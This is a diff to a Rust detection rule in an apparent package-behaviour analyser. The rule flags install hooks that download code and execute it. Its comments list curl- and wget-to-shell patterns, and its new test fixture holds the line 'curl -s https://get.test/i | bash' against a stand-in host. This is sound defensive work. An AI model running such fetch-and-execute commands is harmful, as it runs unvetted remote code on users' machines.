@@ -1,4 +1,6 @@
-use apa_model::{Confidence, Event, EventKind, Hostile, Process, Severity};
+use std::collections::BTreeMap;
+
+use apa_model::{Confidence, Event, EventKind, Hostile, Process, ProcessId, Severity};
 
 use super::{Hit, Rule, RuleInfo};
 use crate::programs;
@@ -14,7 +16,7 @@ static INFO: RuleInfo = RuleInfo {
     attack: &["T1105", "T1059.004"],
     explanation: "Package code pipes or substitutes a download into an interpreter (seen in the processes of the pipeline and in the \
                   shell's command), or downloads a file by itself and runs it. A download into the package's own folder \
-                  that is then run is less sure: some packages fetch their native program.",
+                  that is then run is medium: some packages fetch their native program.",
 };
 
 impl Rule for HookDownloadsAndExecutes {
@@ -23,11 +25,12 @@ impl Rule for HookDownloadsAndExecutes {
     }
 
     fn hits(&self, view: &View<'_>) -> Vec<Hit> {
-        let mut hits: Vec<Hit> = view
-            .acts()
-            .iter()
-            .filter_map(|event| piped(view, event))
-            .collect();
+        let readers = pipe_readers(view);
+        let mut hits: Vec<Hit> = Vec::new();
+        for event in view.programs() {
+            hits.extend(told_by_command(view, event));
+            hits.extend(told_by_processes(view, &readers, event));
+        }
         hits.extend(
             view.executions()
                 .iter()
@@ -37,34 +40,59 @@ impl Rule for HookDownloadsAndExecutes {
     }
 }
 
-/// A downloader whose sibling is an interpreter that reads from a pipe, or whose shell's text says so.
-fn piped(view: &View<'_>, event: &Event) -> Option<Hit> {
+/// A shell whose command feeds a download to an interpreter. The downloader need not be there: where it is
+/// missing, the shell does not even try to start it.
+fn told_by_command(view: &View<'_>, event: &Event) -> Option<Hit> {
+    let EventKind::Exec { exe, argv, .. } = &event.kind else {
+        return None;
+    };
+    let text = command_text(exe, argv).filter(|text| feeds_interpreter(text))?;
+    let source = text
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | '|'))
+        .find(|word| word.contains("://"));
+    let when = view.when(event.phase, Some(event.process));
+    let clause = format!(
+        "downloads code{} and has a shell execute it {when}",
+        from(source)
+    );
+    let command = Hostile::from(text.as_str()).shortened(200);
+    let hit = Hit::new(&INFO, &event.owner, event.phase, clause).event(
+        view,
+        event,
+        format!("command: {command}"),
+    );
+    Some(
+        view.children(event.process)
+            .iter()
+            .flat_map(|child| view.flows_of(*child))
+            .take(3)
+            .fold(hit, |hit, sent| hit.flow(view, sent.flow)),
+    )
+}
+
+/// A downloader whose sibling is an interpreter that reads from a pipe, and no shell's command says so.
+fn told_by_processes(
+    view: &View<'_>,
+    readers: &BTreeMap<ProcessId, &Process>,
+    event: &Event,
+) -> Option<Hit> {
     let EventKind::Exec { exe, argv, .. } = &event.kind else {
         return None;
     };
     if !programs::is_downloader(&exe.lossy()) {
         return None;
     }
-    let downloader = view.process(event.process)?;
-    let parent = downloader.parent.and_then(|id| view.process(id));
-    let reader = parent.and_then(|parent| piped_interpreter(view, parent, downloader));
-    let text = view
-        .lineage(event.process)
-        .take(4)
-        .find_map(|process| command_text(process).filter(|text| feeds_interpreter(text)));
-    let by = match (&reader, &text) {
-        (Some(reader), _) => base(&reader.exe),
-        (None, Some(_)) => "a shell".to_owned(),
-        (None, None) => return None,
-    };
-    let from = argv
-        .iter()
-        .skip(1)
-        .map(Hostile::lossy)
-        .find(|word| word.contains("://"))
-        .map(|url| format!(" from {}", Hostile::from(url.as_ref()).shortened(120)))
-        .unwrap_or_default();
-    let program = base(exe);
+    let reader = readers.get(&view.process(event.process)?.parent?)?;
+    let told = view.lineage(event.process).take(4).any(|process| {
+        command_text(&process.exe, &process.argv).is_some_and(|text| feeds_interpreter(&text))
+    });
+    if told {
+        return None;
+    }
+    let (program, by) = (base(exe), base(&reader.exe));
+    let words: Vec<_> = argv.iter().skip(1).map(Hostile::lossy).collect();
+    let source = words.iter().find(|word| word.contains("://"));
+    let from = from(source.map(AsRef::as_ref));
     let when = view.when(event.phase, Some(event.process));
     let clause = format!("downloads code{from} with {program} and has {by} execute it {when}");
     let mut hit = Hit::new(&INFO, &event.owner, event.phase, clause).event(
@@ -72,49 +100,46 @@ fn piped(view: &View<'_>, event: &Event) -> Option<Hit> {
         event,
         format!("{program} executed"),
     );
-    if let Some(started) = reader.and_then(|reader| last_exec(view, reader)) {
+    if let Some(started) = last_exec(view, reader) {
         hit = hit.event(view, started, format!("{by} reads from the pipeline"));
     }
-    if let Some(text) = text {
-        let shell = parent
-            .and_then(|parent| last_exec(view, parent))
-            .unwrap_or(event);
-        hit = hit.event(
-            view,
-            shell,
-            format!("command: {}", Hostile::from(text).shortened(200)),
-        );
+    Some(
+        view.flows_of(event.process)
+            .take(3)
+            .fold(hit, |hit, sent| hit.flow(view, sent.flow)),
+    )
+}
+
+fn from(url: Option<&str>) -> String {
+    match url {
+        Some(url) => format!(" from {}", Hostile::from(url).shortened(120)),
+        None => String::new(),
     }
-    for sent in view.flows() {
-        if sent.flow.process == Some(event.process) {
-            hit = hit.flow(view, sent.flow);
-        }
-    }
-    Some(hit)
 }
 
 fn base(exe: &Hostile) -> String {
     Hostile::from(programs::base_name(&exe.lossy())).to_string()
 }
 
-/// An interpreter beside the downloader that is fed by a pipe and has no script of its own.
-fn piped_interpreter<'a>(
-    view: &View<'a>,
-    parent: &Process,
-    downloader: &Process,
-) -> Option<&'a Process> {
-    view.children(parent.id)
-        .iter()
-        .filter(|id| **id != downloader.id)
-        .filter_map(|id| view.process(*id))
-        .find(|process| {
-            programs::is_interpreter(&process.exe.lossy())
-                && reads_standard_input(&process.argv)
-                && view.acts_of(process.id).iter().any(|act| match &act.kind {
-                    EventKind::Dup { to: 0, target, .. } => target == "pipe",
-                    _ => false,
-                })
-        })
+/// Per parent, the first child that is an interpreter without a script of its own and is fed by a pipe.
+fn pipe_readers<'a>(view: &View<'a>) -> BTreeMap<ProcessId, &'a Process> {
+    let mut readers = BTreeMap::new();
+    for act in view.acts() {
+        let fed = match &act.kind {
+            EventKind::Dup { to: 0, target, .. } => target == "pipe",
+            _ => false,
+        };
+        let Some(process) = view.process(act.process).filter(|_| fed) else {
+            continue;
+        };
+        if let Some(parent) = process.parent
+            && programs::is_interpreter(&process.exe.lossy())
+            && reads_standard_input(&process.argv)
+        {
+            readers.entry(parent).or_insert(process);
+        }
+    }
+    readers
 }
 
 /// No script and no command among the arguments.
@@ -137,18 +162,15 @@ fn is_command_option(argument: &str) -> bool {
 }
 
 /// The text a shell was given with `-c`.
-fn command_text(process: &Process) -> Option<String> {
-    if !programs::is_shell(&process.exe.lossy()) {
+fn command_text(exe: &Hostile, argv: &[Hostile]) -> Option<String> {
+    if !programs::is_shell(&exe.lossy()) {
         return None;
     }
-    let at = process.argv.iter().position(|argument| {
+    let at = argv.iter().position(|argument| {
         let argument = argument.lossy();
         argument.starts_with('-') && !argument.starts_with("--") && argument.ends_with('c')
     })?;
-    process
-        .argv
-        .get(at + 1)
-        .map(|text| text.lossy().into_owned())
+    argv.get(at + 1).map(|text| text.lossy().into_owned())
 }
 
 /// `curl … | sh`, `sh -c "$(curl …)"`, `bash <(curl …)`, `eval "$(wget …)"`.
@@ -221,7 +243,7 @@ fn downloaded(view: &View<'_>, run: &Execution<'_>) -> Option<Hit> {
     let clause = format!("downloads from {peer}, writes {path} and runs it {when}");
     let mut hit = Hit::new(&INFO, &run.event.owner, run.event.phase, clause);
     if view.is_own(&run.path) {
-        hit = hit.graded(Severity::High, Confidence::Medium);
+        hit = hit.graded(Severity::Medium, Confidence::Medium);
     }
     Some(
         hit.flow(view, source.flow)
@@ -266,6 +288,26 @@ mod tests {
             "Downloads code from https://get.test/i with curl and has sh execute it in its setup.py."
         );
         assert_eq!(finding.evidence.len(), 3);
+    }
+
+    #[test]
+    fn a_command_convicts_even_where_the_downloader_is_missing() {
+        let mut scene = Scene::npm("left-pad");
+        let hook = scene.package("/usr/bin/node", &["node"]);
+        let line = "curl -s \"https://get.test/i\" | bash";
+        let shell = scene.child(hook, "/usr/bin/sh", &["sh", "-c", line]);
+        let reader = scene.fork(shell);
+        scene
+            .at(reader)
+            .dup(3, 0, "pipe")
+            .exec("/usr/bin/bash", &["bash"]);
+        let finding = scene.finding("hook-downloads-and-executes");
+        assert!(
+            finding
+                .explanation
+                .to_string()
+                .starts_with("Downloads code from https://get.test/i and has a shell execute it ")
+        );
     }
 
     #[test]
